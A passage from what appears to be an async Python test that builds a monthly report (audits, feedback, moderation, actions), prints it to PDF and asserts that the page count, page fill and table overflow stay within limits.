    framework: Framework, report_dir: Path, first: str, last: str, most_pages: int
) -> None:
    report = build_report(
        framework, first_month=first, last_month=last, audits=the_audits(),
        feedback=the_feedback(), moderation=the_pairs(), actions=the_actions(),
    )  # fmt: skip
    pdf, overflow = await printed(render(report))
    (report_dir / f"report-{first}-{last}.pdf").write_bytes(pdf)
    fills = page_fills(pdf)
    # Each section used to start a page: January's report printed on 8 pages, 4 near blank.
    assert len(fills) <= most_pages, fills
    assert min(fills) >= NEAR_BLANK, fills
    assert overflow <= 0.5  # no table loses its right edge
